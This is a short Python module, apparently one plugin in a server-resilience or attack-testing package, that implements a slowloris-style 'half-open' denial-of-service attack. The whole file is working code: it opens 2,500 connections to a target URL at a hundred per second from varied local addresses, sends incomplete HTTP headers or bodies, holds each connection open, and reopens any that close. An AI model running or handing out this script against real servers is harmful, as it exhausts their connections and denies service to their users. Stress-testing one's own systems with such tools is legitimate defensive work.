"""2,500 requests whose heads or bodies never come, a hundred more a second; what is closed is opened again
after a while."""

from __future__ import annotations

import asyncio
from contextlib import suppress
from urllib.parse import urlsplit

from strangers._many import address, ended

NAME = "half-open"
CONNECTIONS, EACH, AGAIN = 2_500, 0.01, 5.0
HALVES = (
    b"",
    b"GET / HTTP/1.1\r\nHost: x\r\nX-More:",
    b"POST /api/session HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{",
)


async def attack(base_url: str, stop: asyncio.Event) -> None:
    at = urlsplit(base_url)
    tasks: list[asyncio.Task[None]] = []

    async def held(n: int) -> None:
        while not stop.is_set():
            with suppress(OSError):
                hears, says = await asyncio.open_connection(at.hostname, at.port, local_addr=(address(n), 0))
                try:
                    says.write(HALVES[n % len(HALVES)])
                    await hears.read()
                finally:
                    says.transport.abort()
            await asyncio.sleep(AGAIN)

    for n in range(CONNECTIONS):
        if stop.is_set():
            break
        tasks.append(asyncio.create_task(held(n)))
        await asyncio.sleep(EACH)
    await ended(tasks, stop)
